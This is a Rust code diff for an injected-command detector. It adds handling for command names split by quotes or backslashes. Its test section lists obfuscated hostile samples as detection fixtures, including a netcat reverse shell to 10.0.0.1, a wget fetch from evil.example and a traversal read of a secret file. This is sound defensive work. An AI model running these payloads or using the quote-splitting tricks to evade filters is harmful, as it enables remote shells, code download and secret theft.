@@ -7,8 +7,8 @@ mod bare;
 mod honest;
 pub(super) mod rules;
 
-use self::rules::{BARE, RULES};
-use super::{BuildError, CERTAIN, Detector, Family, Finding, Marks, RuleSet, Value, lexicon::Lexicon};
+use self::rules::{BARE, RULES, SPLIT};
+use super::{BuildError, CERTAIN, Detector, Family, Finding, Hits, Marks, RuleSet, Value, lexicon::Lexicon};
 
 /// Separators, substitutions and variables; and what arguments have, for commands at the beginning of a value.
 const MARKS: Marks = Marks::SEMICOLON
@@ -27,17 +27,34 @@ const MARKS: Marks = Marks::SEMICOLON
 /// What shells take out of words.
 const IGNORED: Marks = Marks::QUOTE.and(Marks::BACKSLASH).and(Marks::DOLLAR).and(Marks::OTHER);
 
+/// What ends the command before or opens braces: without one of these, rules for words that are
+/// split find nothing but a command at the beginning.
+const ENDS: Marks = Marks::SEMICOLON
+    .and(Marks::PIPE)
+    .and(Marks::BREAK)
+    .and(Marks::ANGLE)
+    .and(Marks::OTHER)
+    .and(Marks::DOLLAR)
+    .and(Marks::CURLY)
+    .and(Marks::BACKSLASH);
+
 /// Finds injected commands.
 pub(super) struct Command {
     rules: RuleSet,
+    /// Those of them that say something only where an address is wanted.
+    of_addresses: Hits,
     bare: RuleSet,
+    split: RuleSet,
 }
 
 impl Command {
     pub(super) fn new(lexicon: &mut Lexicon) -> Result<Self, BuildError> {
+        let rules = RuleSet::with(RULES, lexicon)?;
         Ok(Self {
-            rules: RuleSet::with(RULES, lexicon)?,
+            of_addresses: rules.named(&["address-and-more"]),
+            rules,
             bare: RuleSet::new(BARE)?,
+            split: RuleSet::new(SPLIT)?,
         })
     }
 }
@@ -75,12 +92,28 @@ impl Detector for Command {
 
 impl Command {
     fn judge(&self, value: &Value<'_>) -> Option<Finding> {
+        let value = &value.unless(&self.of_addresses, honest::is_for_address);
         let finding = self.rules.judge_by(value, |rule| !honest::is_excused(rule, value));
         if is_certain(finding.as_ref()) || value.is_document || !may_be_split(value) || !bare::is_split(value.text) {
             return finding;
         }
+        let begins_split = bare::begins_split(value.text);
+        if !(begins_split || value.marks.any(ENDS) || bare::may_begin_with_command(value.text)) {
+            return finding;
+        }
         let bare = bare::command(value.text);
-        bare.and_then(|text| self.split(value, &text)).or(finding)
+        let found = bare.and_then(|text| {
+            let of_first = begins_split.then(|| self.of_first_word(value, &text)).flatten();
+            of_first.or_else(|| self.split(value, &text))
+        });
+        found.or(finding)
+    }
+
+    /// The command whose name was split, at the beginning of a text of which that was taken out.
+    fn of_first_word(&self, value: &Value<'_>, text: &str) -> Option<Finding> {
+        let found = self.split.judge(&value.with_text(text))?;
+        let name = text.get(found.at.clone())?.split_ascii_whitespace().next()?;
+        (!value.text.contains(name)).then(|| value.widened(found))
     }
 
     /// What is found in a text only after what splits its words was taken out. What stands there as it is was judged before, by rules
@@ -148,6 +181,30 @@ mod tests {
                 "system('ls -la')",
             ],
         );
+    }
+
+    #[test]
+    fn names_that_are_split_are_put_together() {
+        assert_finds(
+            "command",
+            &[
+                "py''thon -c \"print('attack')\"",
+                "p\"\"erl -e 'print 1'",
+                "ba''sh -i",
+                r"w\get http://evil.example/x",
+                "n''c -e sh 10.0.0.1 4444",
+                "/bin/c''at ../../secret",
+            ],
+        );
+        assert_passes(&[
+            "python -c is an option that 'one' passes code to",
+            "I'd - like you - rather stay",
+            "we'll /maybe/ come",
+            "import {greet} from \"./greeting.js\";",
+            "b=\"URL(\\\"\";",
+            "l'art -du siècle",
+            "Who's on -a- list?",
+        ]);
     }
 
     #[test]
